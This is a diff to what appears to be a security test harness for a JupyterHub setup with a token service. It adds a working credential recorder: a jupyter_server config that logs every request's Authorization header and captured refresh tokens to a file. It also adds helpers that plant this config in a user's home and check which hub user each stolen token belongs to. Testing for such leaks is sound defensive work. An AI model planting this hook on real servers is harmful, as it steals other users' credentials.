@@ -243,3 +243,51 @@ def stack_logs(stack: Stack, *more: Path) -> str:
 def vault_bytes(stack: Stack) -> bytes:
     """tokenhub's SQLite database with its write-ahead log, as stored."""
     return b"".join(path.read_bytes() for path in sorted(stack.state_dir.glob("tokenhub.sqlite*")))
+
+
+# What an attacker puts in their own home: every request's Authorization
+# header, and the token files written into the server, go to a file of theirs.
+RECORDER = '''
+import json, os
+from jupyter_server.log import log_request as _log_request
+
+def _record(handler):
+    record = {"server": os.environ.get("JUPYTERHUB_SERVER_NAME", ""),
+              "path": handler.request.path, "method": handler.request.method,
+              "authorization": handler.request.headers.get("Authorization", "")}
+    if handler.request.method == "PUT" and handler.request.path.endswith(".tokens.json"):
+        try:
+            record["refresh_token"] = json.loads(json.loads(handler.request.body)["content"]).get("refresh_token")
+        except Exception:
+            pass
+    with open(os.path.join(os.path.expanduser("~"), "recorded.jsonl"), "a") as f:
+        f.write(json.dumps(record) + "\\n")
+    _log_request(handler)
+
+c.ServerApp.tornado_settings = {"log_function": _record}
+'''
+
+
+def home(stack, user: str) -> Path:
+    return stack.state_dir / "hub" / "home" / user
+
+
+def plant_recorder(stack, user: str) -> Path:
+    config = home(stack, user) / ".jupyter"
+    config.mkdir(parents=True, exist_ok=True)
+    (config / "jupyter_server_config.py").write_text(RECORDER)
+    return home(stack, user) / "recorded.jsonl"
+
+
+def recorded(path: Path) -> list[dict]:
+    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []
+
+
+def credentials_owned_by(stack, records: list[dict]) -> dict[str, str]:
+    """Each Authorization a recorder saw, with the hub user its token belongs to."""
+    owners = {}
+    for credential in {r["authorization"] for r in records if r["authorization"]}:
+        request = urllib.request.Request(f"{stack.hub_url}/hub/api/user", headers={"Authorization": credential})
+        with urllib.request.urlopen(request, timeout=30) as r:
+            owners[credential] = json.loads(r.read())["name"]
+    return owners
